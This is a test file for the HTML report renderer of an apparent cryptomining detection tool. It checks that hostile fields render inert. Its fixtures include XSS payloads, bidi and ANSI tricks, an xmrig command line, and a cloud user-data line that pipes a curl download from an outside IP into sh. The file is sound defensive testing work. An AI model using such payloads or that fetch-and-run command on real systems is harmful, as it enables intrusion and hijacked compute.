import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gpuCost } from '../../test/support/gpu-cost.js';
import { HOSTILE_CASE, hostileFinding } from '../../test/support/hostile-finding.js';
import { rawInvisible } from '../../test/support/invisible.js';
import type { CoverageReport } from '../model/coverage.js';
import type { Case, Finding } from '../model/finding.js';
import { escapeHtml } from '../util/hostile.js';
import { renderReportHtml } from './report-html.js';

const HOSTILE = `xmrig --pass '<script>alert(1)</script>' "onload=x" \u001b[31mRED\u001b[0m \u202eevil`;

function finding(over: Partial<Finding> = {}): Finding {
  return {
    id: 'cm-0123456789abcdef',
    analytic: 'AN0742',
    title: `Cryptomining on <b>web</b>: ${HOSTILE}`,
    attack: ['T1496.001'],
    severity: 'high',
    confidence: 0.9,
    entity: 'process:web:<i>1</i>',
    related: [],
    host: 'web"><img src=x onerror=alert(3)>',
    first_seen: '2025-03-14T02:10:00.000Z',
    last_seen: '2025-03-14T02:40:00.000Z',
    legs: ['resource', 'process', 'reach'],
    summary: '3 of 3 legs',
    evidence: [
      {
        kind: 'miner-process',
        class: 'process',
        strength: 'strong',
        time: '2025-03-14T02:12:00.000Z',
        source: 'audit.log:<7>',
        explanation: `command line ${HOSTILE}`,
        by: 'test',
        entity: 'process:web:1',
      },
      {
        kind: 'pool-contact',
        class: 'network',
        strength: 'medium',
        time: 'not a time',
        source: 'conn.log:1',
        explanation: 'pool',
        by: 'test',
        entity: 'process:web:1',
      },
    ],
    gaps: ['gap <u>x</u>'],
    suppressed_by: null,
    facts: { command_line: HOSTILE },
    processes: [{ entity: 'process:web:1', pid: 1, executable: '/tmp/xmrig', user: 'www', command_line: HOSTILE }],
    usage: {
      core_hours: 2,
      basis: 'per-process CPU of 1 process',
      series: [
        {
          entity: 'process:web:1',
          label: `xmrig <svg onload=alert(4)>`,
          points: [
            ['2025-03-14T02:10:00.000Z', 390],
            ['2025-03-14T02:20:00.000Z', 395],
            ['2025-03-14T02:30:00.000Z', Number.NaN],
            ['garbage', 100],
            ['2025-03-14T02:40:00.000Z', 380],
          ],
        },
        { entity: 'host:web', label: 'host web (percent of all cores)', points: [['2025-03-14T02:15:00.000Z', 50]] },
      ],
    },
    triage: {
      escalation: { tier: 'Tier 2', reasons: [`reason ${HOSTILE}`], next_steps: ['scope it'] },
      questions: [
        {
          id: 'legitimate-process',
          question: 'Legitimate?',
          status: 'answered',
          answer: 'Unlikely <b>',
          evidence: ['audit.log:7'],
        },
        { id: 'vulnerable-exposure', question: 'Exposed?', status: 'needs-analyst', answer: 'check', evidence: [] },
      ],
      containment: {
        platform: 'linux',
        steps: [{ phase: 'remove', action: 'kill it', commands: [`kill -9 1 && rm -f -- '/tmp/<x>'`] }],
      },
      cost: { core_hours: 2, price_per_core_hour: 0.05, currency: 'USD', amount: 0.1, basis: 'per-process' },
      allowlist_suggestion: 'allowlist:\n  - match: "</pre><script>alert(5)</script>"',
    },
    ...over,
  };
}

const CASE: Case = {
  id: 'case-1',
  title: 'Case <script>alert(6)</script>',
  severity: 'high',
  tier: 'Tier 2',
  status: 'new',
  hosts: ['web<'],
  entities: [],
  campaign: { destinations: [], executables: [], hashes: [] },
  findings: ['cm-0123456789abcdef'],
  first_seen: '2025-03-14T02:10:00.000Z',
  last_seen: '2025-03-14T02:40:00.000Z',
  core_hours: 2,
  cost: 0.1,
  currency: 'USD',
};

const RUN = { version: '0.1.0', inputs: ['/logs/<x>'], files: 2, events: 10, stateEvents: 1, filesByFormat: {} };

test('every input string is escaped: markup and ANSI render as text, never as elements', () => {
  const html = renderReportHtml([finding()], [CASE], RUN);
  assert.ok(!/<script/i.test(html), 'no script element');
  assert.ok(!/<img|<svg onload|<b>web|<i>1|<u>x/i.test(html), 'no injected element');
  assert.ok(!/<[^>]*\son\w+\s*=/i.test(html), 'no event handler attribute in any tag');
  assert.ok(html.includes('&#60;script&#62;alert(1)&#60;/script&#62;'));
  assert.ok(!html.includes('\u001b'), 'no raw ESC');
  assert.ok(html.includes('\\u001b[31mRED'), 'ESC shown as a visible escape');
  assert.ok(!html.includes('\u202e') && html.includes('\\u202e'), 'bidi override made visible');
  assert.ok(html.includes('kill -9 1 &#38;&#38; rm -f -- &#39;/tmp/&#60;x&#62;&#39;'), 'commands escaped in <pre>');
});

test('zero-width, bidi and other format characters are visible and inert in the report, in text and attributes', () => {
  const html = renderReportHtml([hostileFinding()], [HOSTILE_CASE], { ...RUN, inputs: ['/logs/evil\u202egpj.exe'] });
  assert.deepEqual(rawInvisible(html), []);
  assert.ok(html.includes('evil\\u202egpj.exe\\u200d\\u001b[31mred\\u2028\\ufeff\\u{e0041}\\u2066x\\u000aforged'));
  // the context table: markup in a rule title or command line is text, the facts' keys too
  assert.ok(html.includes('<h3>Context: other detections on the host</h3>'));
  assert.ok(html.includes('context title evil\\u202e'));
  assert.ok(html.includes('&#60;script&#62;</td>') || html.includes('&#60;script&#62;<br>'));
  assert.ok(html.includes('ctxcmd evil\\u202e') && html.includes('forged&#60;b&#62;'));
  assert.ok(!/<script|<b>/i.test(html));
  assert.ok(html.includes('3 more in the window, not shown.'));
});

test('escapeHtml clips long strings and escapes quotes for attributes', () => {
  const long = escapeHtml('a'.repeat(5000), 100);
  assert.ok(long.length < 130 && long.includes('…[+4900]'));
  assert.equal(escapeHtml(`"'<>&\``), '&#34;&#39;&#60;&#62;&#38;&#96;');
  assert.equal(escapeHtml('a\u0000b\nc'), 'a\\u0000b\\u000ac');
});

test('CSP meta forbids everything but the hashed stylesheet; no external resource is referenced', () => {
  const html = renderReportHtml([finding()], [CASE], RUN);
  const csp = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
  assert.ok(csp, 'CSP meta present');
  assert.match(csp[1], /^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'; img-src data:/);
  assert.ok(html.indexOf(csp[0]) < html.indexOf('<style>'), 'CSP before the stylesheet');
  assert.ok(!/https?:\/\//i.test(html), 'no http(s) URL anywhere');
  assert.ok(!/<[^>]*\s(?:src|href|xlink:href|srcset|action|data)\s*=\s*(?!["']?#)/i.test(html), 'only in-page links');
  assert.ok(!/url\(|@import/i.test(html), 'no CSS resource');
  assert.ok(!/<(?:script|link|iframe|object|embed|img)\b/i.test(html));
});

test('the CPU timeline: one polyline per series with axes, evidence markers with tooltips', () => {
  const html = renderReportHtml([finding()], [CASE], RUN);
  const svg = html.match(/<svg class="timeline"[\s\S]*?<\/svg>/)?.[0] ?? '';
  assert.ok(svg, 'svg present');
  const polylines = [...svg.matchAll(/<polyline [^>]*points="([^"]*)"/g)];
  assert.equal(polylines.length, 2);
  // bad points are dropped: 3 valid of 5
  assert.equal(polylines[0][1].split(' ').length, 3);
  for (const [, pts] of polylines) assert.match(pts, /^[\d.]+,[\d.]+( [\d.]+,[\d.]+)*$/);
  assert.match(svg, />time \(UTC\)</);
  assert.match(svg, />CPU %</);
  assert.match(svg, />2025-03-14 02:10</);
  assert.equal([...svg.matchAll(/<g class="marker">/g)].length, 1, 'an unparseable evidence time gets no marker');
  assert.match(svg, /<title>2025-03-14T02:12:00.000Z strong miner-process: command line xmrig/);
  assert.ok(html.includes('xmrig &#60;svg onload=alert(4)&#62;'), 'series label escaped');
});

test('no CPU telemetry: a clear note instead of a chart, and no cost', () => {
  const base = finding();
  const f = finding({ usage: null, triage: base.triage && { ...base.triage, cost: null } });
  const html = renderReportHtml([f], [], RUN);
  assert.ok(!html.includes('<svg class="timeline"'));
  assert.match(html, /No CPU telemetry for this finding/);
  assert.match(html, /Not estimated: no CPU telemetry/);
  const empty = renderReportHtml([finding({ usage: { core_hours: 0, basis: 'x', series: [] } })], [], RUN);
  assert.match(empty, /No CPU telemetry for this finding/);
});

test('header, cases and per-finding sections carry the playbook', () => {
  const html = renderReportHtml([finding()], [CASE], RUN);
  for (const s of [
    'coalmine incident report',
    'coalmine 0.1.0',
    '2025-03-14T02:10:00.000Z → 2025-03-14T02:40:00.000Z',
    'Escalation: <span class="tier tier-2">Tier 2</span>',
    'Questions for analysis',
    'needs an analyst',
    'Containment plan (linux',
    '2 core-hours × 0.05 USD = <strong>0.10 USD</strong>',
    'If this is legitimate, add to coalmine.yaml',
    'T1496.001',
    '<a href="#f-cm-0123456789abcdef">',
    'id="f-cm-0123456789abcdef"',
  ])
    assert.ok(html.includes(s), s);
  assert.equal(renderReportHtml([finding()], [CASE], RUN), html, 'same input, same bytes');
  assert.match(renderReportHtml([], [], RUN), /No findings\./);
});

test('coverage: per host the analytics with their gaps and the evidence classes; the event span heads the report', () => {
  const coverage: CoverageReport = {
    covered: false,
    gapCount: 1,
    hosts: [
      {
        host: 'web<script>',
        platform: 'linux',
        classes: [
          {
            class: 'process',
            status: 'present',
            events: 3,
            formats: ['auditd'],
            first: '2025-03-14T01:00:00.000Z',
            last: '2025-03-14T03:00:00.000Z',
          },
          { class: 'dns', status: 'absent', events: 0, formats: [] },
          // a crontab's mtime from long before: not part of the event span
          {
            class: 'persistence',
            status: 'present',
            events: 1,
            formats: ['crontab'],
            first: '2023-11-14T00:00:00.000Z',
            last: '2023-11-14T00:00:00.000Z',
          },
        ],
        analytics: [
          {
            analytic: 'AN0742',
            title: 'Linux',
            status: 'partial',
            requires: ['process'],
            missing: ['process'],
            gaps: ['no CPU <b>for web</b>'],
            notes: [],
          },
        ],
        notes: [],
      },
    ],
    namespaces: [],
    cloudRegions: [],
    input: { files: 1, filesByFormat: {}, events: 3, stateEvents: 0, issuesByCode: {}, issueList: [], hostsEvicted: 0 },
  };
  const html = renderReportHtml([finding()], [CASE], { ...RUN, coverage });
  assert.match(html, /<h2>Telemetry coverage<\/h2>/);
  assert.ok(html.includes('web&#60;script&#62;') && html.includes('no CPU &#60;b&#62;for web&#60;/b&#62;'));
  assert.ok(html.includes('time range (events)</dt><dd>2025-03-14T01:00:00.000Z → 2025-03-14T03:00:00.000Z'));
  assert.ok(!/<script/i.test(html));
});

function containerFinding(id: string, cluster: string, namespace: string, workload: string): Finding {
  return finding({
    id,
    analytic: 'AN0745',
    title: `Cryptomining in ${workload}`,
    entity: `workload:${cluster}:${namespace}:${workload}`,
    facts: {
      cluster,
      namespace,
      workload: `DaemonSet/${workload}`,
      replicas: 3,
      images: ['docker.io/evil/<img src=x onerror=alert(5)>:latest', 'busybox:1.36'],
      creator: 'system:anonymous<script>alert(6)</script>',
      creator_source_ips: ['203.0.113.7'],
      nodes: ['worker-1', 'worker-"2"'],
    },
  });
}

test('AN0745 findings are listed by cluster/namespace with workload, replicas, images, creator and nodes, all escaped', () => {
  const findings = [
    containerFinding('cm-b', 'prod', 'zeta<b>', 'miner-b'),
    finding(),
    containerFinding('cm-a', 'prod', 'default', 'kube-netmon'),
    containerFinding('cm-c', 'prod', 'default', 'proxy'),
  ];
  const html = renderReportHtml(findings, [], RUN);
  const section = html.slice(
    html.indexOf('<h2>Containers by cluster/namespace (AN0745)</h2>'),
    html.indexOf('<h2>Findings</h2>'),
  );
  assert.ok(section.length > 0, 'the section sits before the findings');
  // one heading per cluster/namespace, in order; both default findings under one heading
  assert.deepEqual(
    [...section.matchAll(/<h3 class="namespace">(.*?)<\/h3>/g)].map((m) => m[1]),
    ['prod/default', 'prod/zeta&#60;b&#62;'],
  );
  const defaultGroup = section.slice(0, section.indexOf('prod/zeta'));
  assert.ok(defaultGroup.includes('href="#f-cm-a"') && defaultGroup.includes('href="#f-cm-c"'));
  assert.ok(!defaultGroup.includes('href="#f-cm-b"'));
  assert.ok(!section.includes('f-cm-0123456789abcdef'), 'the AN0742 finding is not a container');
  for (const s of [
    'DaemonSet/kube-netmon',
    '<td class="nw">3</td>',
    'docker.io/evil/&#60;img src=x onerror=alert(5)&#62;:latest, busybox:1.36',
    'system:anonymous&#60;script&#62;alert(6)&#60;/script&#62;',
    'from 203.0.113.7',
    'worker-1, worker-&#34;2&#34;',
  ])
    assert.ok(section.includes(s), s);
  // the finding itself carries the same workload facts
  const own = html.slice(html.indexOf('id="f-cm-a"'));
  assert.ok(own.includes('<dt>namespace</dt><dd>default</dd>') && own.includes('<dt>replicas</dt><dd>3</dd>'));
  assert.ok(!/<script|<img/i.test(html.replace(/^[\s\S]*?<body>/, '')), 'no element from a fact');
  assert.ok(
    !renderReportHtml([finding()], [], RUN).includes('Containers by cluster/namespace'),
    'no section without AN0745',
  );
});

test('coverage: AN0745 per cluster/namespace with each class and the gaps, escaped', () => {
  const coverage: CoverageReport = {
    covered: false,
    gapCount: 1,
    hosts: [],
    namespaces: [
      {
        cluster: 'prod<i>',
        namespace: 'default',
        runtime: 'kubernetes',
        workloads: 2,
        workloadNames: ['api', 'miner<svg>'],
        telemetry: ['audit', 'process'],
        classes: [
          {
            class: 'authorization',
            status: 'present',
            sources: ['audit log'],
            workloads: 2,
            detail: 'audit log (API writes of 2 of 2 workloads)',
          },
          { class: 'resource', status: 'absent', sources: [], workloads: 0, detail: 'no container CPU metrics' },
          {
            class: 'tool',
            status: 'present',
            sources: ['process'],
            workloads: 1,
            detail: 'processes inside 1 of 2 workloads',
          },
        ],
        analytic: {
          analytic: 'AN0745',
          title: 'Containers',
          status: 'partial',
          requires: ['authorization', 'resource', 'tool'],
          missing: ['resource'],
          gaps: [
            'no container CPU metrics for prod<i>/default (Prometheus container_cpu_usage_seconds_total, docker stats)',
          ],
          notes: [],
        },
      },
    ],
    cloudRegions: [],
    input: { files: 1, filesByFormat: {}, events: 3, stateEvents: 0, issuesByCode: {}, issueList: [], hostsEvicted: 0 },
  };
  const html = renderReportHtml([], [], { ...RUN, coverage });
  const table = html.slice(html.indexOf('<h3>Containers (AN0745) per cluster/namespace</h3>'));
  assert.ok(table.includes('<table class="coverage-containers">'));
  for (const s of [
    '<td>prod&#60;i&#62;/default</td>',
    '2: api, miner&#60;svg&#62;',
    'audit, process',
    '<span class="answered">present</span>: audit log (API writes of 2 of 2 workloads)',
    '<span class="needs">absent</span>: no container CPU metrics',
    '<td class="nw"><span class="needs">partial</span></td>',
    '<strong>prod&#60;i&#62;/default</strong>: <span class="needs">partial</span>, missing container CPU<ul><li>no container CPU metrics for prod&#60;i&#62;/default (Prometheus',
  ])
    assert.ok(table.includes(s), s);
  assert.ok(!/<svg>|<i>/.test(html));
});

function launchFinding(id: string, facts: Finding['facts']): Finding {
  return finding({
    id,
    analytic: 'AN0744',
    title: 'Cryptomining on cloud instances',
    entity: `instance:aws:${id}`,
    host: `aws:${String(facts.account ?? '')}`,
    facts,
  });
}

test('AN0744 findings are grouped by provider/account/region with instances, count, types, principal, key and source IP, all escaped', () => {
  const findings = [
    launchFinding('cm-east-b', {
      provider: 'aws',
      account: '123456789012',
      region: 'us-east-1',
      instances: Array.from({ length: 10 }, (_, i) => `i-0a0${i}3b4c5d6e7f809`),
      instance_count: 20,
      instance_types: ['g4dn.xlarge'],
      principal: 'arn:aws:iam::123456789012:user/<script>alert(7)</script>',
      principal_type: 'IAMUser',
      access_key_id: 'AKIA"><img src=x>',
      source_ip: '203.0.113.77',
      launched: '2026-11-02T03:07:45.000Z',
      launch_operation: 'RunInstances',
      user_data: '#!/bin/sh\ncurl http://198.51.100.23/x | sh <svg onload=alert(8)>',
    }),
    finding(),
    launchFinding('cm-apse', {
      provider: 'aws',
      account: '123456789012',
      region: 'ap-southeast-3<b>',
      instance_count: 8,
      instance_types: ['p3.16xlarge'],
      principal: 'arn:aws:iam::123456789012:user/build-bot',
    }),
    launchFinding('cm-east-a', {
      provider: 'aws',
      account: '123456789012',
      region: 'us-east-1',
      instances: ['i-0123456789abcdef0'],
      instance_count: 1,
    }),
    launchFinding('cm-noregion', { provider: 'gcp' }),
  ];
  const html = renderReportHtml(findings, [], RUN);
  const section = html.slice(
    html.indexOf('<h2>Cloud launches by provider/account/region (AN0744)</h2>'),
    html.indexOf('<h2>Findings</h2>'),
  );
  assert.ok(section.length > 0, 'the section sits before the findings');
  assert.deepEqual(
    [...section.matchAll(/<h3 class="region">(.*?)<\/h3>/g)].map((m) => m[1]),
    ['aws/123456789012/ap-southeast-3&#60;b&#62;', 'aws/123456789012/us-east-1', 'gcp/?/?'],
    'one heading per provider/account/region, sorted; a region not named is ?',
  );
  const east = section.slice(section.indexOf('aws/123456789012/us-east-1'), section.indexOf('gcp/?/?'));
  assert.ok(
    east.includes('href="#f-cm-east-a"') && east.includes('href="#f-cm-east-b"'),
    'both launches of the region',
  );
  assert.ok(!east.includes('href="#f-cm-apse"'));
  assert.ok(!section.includes('f-cm-0123456789abcdef'), 'the AN0742 finding is not a launch');
  for (const s of [
    'i-0a003b4c5d6e7f809, i-0a013b4c5d6e7f809',
    'i-0a073b4c5d6e7f809, … 12 more</td>',
    '<td class="nw">20</td>',
    '<td>g4dn.xlarge</td>',
    'arn:aws:iam::123456789012:user/&#60;script&#62;alert(7)&#60;/script&#62;<br><span class="note">IAMUser</span>',
    'AKIA&#34;&#62;&#60;img src=x&#62;',
    '<td class="nw">203.0.113.77</td>',
    '2026-11-02T03:07:45.000Z<br><span class="note">RunInstances</span>',
  ])
    assert.ok(east.includes(s), s);
  assert.ok(section.includes('<span class="note">none seen</span>'), 'a launch with no instance seen says so');
  // the finding itself carries the launch facts
  const own = html.slice(html.indexOf('id="f-cm-east-b"'));
  for (const s of [
    '<dt>region</dt><dd>us-east-1</dd>',
    '<dt>instance count</dt><dd>20</dd>',
    '<dt>access key</dt><dd>AKIA&#34;&#62;&#60;img src=x&#62;</dd>',
    '<dt>source IP</dt><dd>203.0.113.77</dd>',
    '<dt>user data</dt><dd>#!/bin/sh',
  ])
    assert.ok(own.includes(s), s);
  assert.ok(!/<script|<img|<svg onload/i.test(html.replace(/^[\s\S]*?<body>/, '')), 'no element from a fact');
  assert.ok(!renderReportHtml([finding()], [], RUN).includes('Cloud launches by'), 'no section without AN0744');
});

test('coverage: AN0744 per provider/account/region with each class and the gaps, escaped', () => {
  const coverage: CoverageReport = {
    covered: false,
    gapCount: 1,
    hosts: [],
    namespaces: [],
    cloudRegions: [
      {
        provider: 'aws',
        account: '123456789012',
        region: 'us-east-1<i>',
        telemetry: ['audit', 'network'],
        classes: [
          { class: 'authorization', status: 'present', sources: ['audit'], detail: 'control-plane audit log' },
          { class: 'reach', status: 'present', sources: ['network'], detail: 'flow logs' },
          { class: 'resource', status: 'absent', sources: [], detail: 'no instance CPU metrics' },
        ],
        analytic: {
          analytic: 'AN0744',
          title: 'IaaS',
          status: 'partial',
          requires: ['authorization', 'reach', 'resource'],
          missing: ['resource'],
          gaps: ['no instance CPU metrics for aws account 123456789012 us-east-1<i> (CloudWatch CPUUtilization)'],
          notes: ['no cloud: section in coalmine.yaml: <svg>'],
        },
      },
      {
        provider: 'azure',
        telemetry: ['cpu'],
        classes: [],
        analytic: {
          analytic: 'AN0744',
          title: 'IaaS',
          status: 'covered',
          requires: ['authorization', 'reach', 'resource'],
          missing: [],
          gaps: [],
          notes: [],
        },
      },
    ],
    input: { files: 1, filesByFormat: {}, events: 3, stateEvents: 0, issuesByCode: {}, issueList: [], hostsEvicted: 0 },
  };
  const html = renderReportHtml([], [], { ...RUN, coverage });
  const table = html.slice(html.indexOf('<h3>Cloud (AN0744) per provider/account/region</h3>'));
  assert.ok(table.includes('<table class="coverage-cloud">'));
  for (const s of [
    '<th>authorization</th><th>flows, DNS or detector</th><th>instance CPU</th>',
    '<td>aws/123456789012/us-east-1&#60;i&#62;</td><td>audit, network</td>',
    '<span class="answered">present</span>: control-plane audit log',
    '<span class="answered">present</span>: flow logs',
    '<span class="needs">absent</span>: no instance CPU metrics',
    '<strong>aws/123456789012/us-east-1&#60;i&#62;</strong>: <span class="needs">partial</span>, missing instance CPU',
    '<li>no instance CPU metrics for aws account 123456789012 us-east-1&#60;i&#62; (CloudWatch',
    '<span class="note">no cloud: section in coalmine.yaml: &#60;svg&#62;</span>',
    '<td>azure/?/?</td><td>cpu</td>',
  ])
    assert.ok(table.includes(s), s);
  assert.ok(!table.includes('<strong>azure/?/?</strong>'), 'a covered region with nothing to say lists no gaps');
  assert.ok(!/<svg>|<i>/.test(html));
});

test('GPU-hours: the cost of a finding at the GPU-hour price, the compute of its case and of the run', () => {
  const f = finding();
  const triage = f.triage;
  assert.ok(triage);
  triage.cost = gpuCost({ core_hours: 6, amount: 0.93 });
  const html = renderReportHtml([f], [{ ...CASE, core_hours: 0, gpu_hours: 1.26, cost: 0.63 }], {
    ...RUN,
    gpuHours: 1.26,
    cost: 0.63,
    currency: 'USD',
  });
  for (const s of [
    '6 core-hours × 0.05 USD + 1.26 GPU-hours × 0.5 USD = <strong>0.93 USD</strong>',
    '<th>compute</th>',
    '<td class="nw">1.26 GPU-hours</td>',
    '<dt>hijacked compute</dt><dd>1.26 GPU-hours ≈ 0.63 USD',
  ])
    assert.ok(html.includes(s), s);
});

test("the run's hijacked compute: core-, GPU- and instance-hours joined, priced as the terminal summary says", () => {
  const html = renderReportHtml([finding()], [CASE], {
    ...RUN,
    coreHours: 2.5,
    gpuHours: 0,
    instanceHours: 64,
    cost: 33.79,
    currency: 'USD',
  });
  assert.ok(
    html.includes(
      "<dt>hijacked compute</dt><dd>2.5 core-hours + 64 cloud instance-hours ≈ 33.79 USD at the policy's prices and the cloud price table</dd>",
    ),
    html.slice(html.indexOf('hijacked compute'), html.indexOf('hijacked compute') + 200),
  );
});

test('a session ending half a minute into its last bucket: that bar is half as wide as a whole minute', () => {
  const session = {
    destination: 'pool:3333',
    dialect: 'monero' as const,
    family: 'randomx' as const,
    family_basis: 'job algo rx/0',
    first_seen: '2025-03-14T02:10:00.000Z',
    last_seen: '2025-03-14T02:11:30.000Z',
    mining_minutes: 1.5,
    connections: 1,
    submitted: 3,
    accepted: 3,
    rejected: 0,
    hashrate: 4000,
    hashrate_low: 1000,
    hashrate_high: 9000,
    unit: 'H/s' as const,
    difficulty: [],
    timeline: [
      ['2025-03-14T02:10:00.000Z', 1, 2, 4000],
      ['2025-03-14T02:11:00.000Z', 0.5, 1, 4000],
    ] as Array<[string, number, number, number]>,
    source: 'cap.pcap#3',
  };
  const html = renderReportHtml([finding({ shares: [session], usage: null })], [], { version: 't' });
  const widths = [...html.matchAll(/<rect x="[\d.]+" y="[\d.]+" width="([\d.]+)"[^>]*fill="#1a7f37"/g)].map((m) =>
    Number(m[1]),
  );
  assert.equal(widths.length, 2);
  // each bar is its bucket's share of the axis less a pixel's gap
  assert.ok(Math.abs((widths[0] + 1) / (widths[1] + 1) - 2) < 0.01, JSON.stringify(widths));
});

test('a finding measured from Stratum shares shows each session: rate, interval, bars; hostile fields inert, bad numbers harmless', () => {
  const shares = [
    {
      destination: `pool"><svg onload=alert(1)>:3333`,
      dialect: 'monero' as const,
      family: 'randomx' as const,
      family_basis: `job algo ${HOSTILE}`,
      worker: HOSTILE,
      first_seen: '2025-03-14T02:10:00.000Z',
      last_seen: '2025-03-14T02:40:00.000Z',
      mining_minutes: 30,
      connections: 2,
      submitted: 60,
      accepted: 58,
      rejected: 2,
      hashrate: 3120,
      hashrate_low: 2500,
      hashrate_high: 3900,
      unit: 'H/s' as const,
      difficulty: [['2025-03-14T02:10:00.000Z', 120000]] as Array<[string, number]>,
      timeline: [
        ['2025-03-14T02:10:00.000Z', 1, 2, 4000],
        ['2025-03-14T02:11:00.000Z', 1, 1, 2000],
        ['not a time', 1, 5, 9],
        ['2025-03-14T02:12:00.000Z', Number.NaN, -3, Number.POSITIVE_INFINITY],
      ] as Array<[string, number, number, number]>,
      source: 'cap.pcap#12',
    },
  ];
  const html = renderReportHtml([finding({ shares, usage: null })], [], { version: 't' });
  assert.match(
    html,
    /<h3>Hashrate timeline \(measured from Stratum shares\)<\/h3><p><strong>~3\.12 kH\/s<\/strong> RandomX \(90%: 2\.5–3\.9 kH\/s\)/,
  );
  assert.ok(html.includes('<title>02:10 +1 min: 2 shares, 4 kH/s</title>'));
  assert.ok(html.includes('<title>02:11 +1 min: 1 share, 2 kH/s</title>'));
  assert.match(html, /58 accepted shares, 2 rejected, over 30 min of mining time on 2 connections/);
  // three bars: the bucket with no time is left out, the one with bad numbers drawn as zero
  assert.equal((html.match(/<rect x=/g) ?? []).length, 3);
  assert.ok(!/NaN|Infinity/.test(html));
  assert.ok(!html.includes('<svg onload') && !html.includes('<script>'));
  assert.deepEqual(rawInvisible(html), []);
  assert.match(html, /No CPU telemetry for this finding: the hashrate timeline above is what the pool/);
});
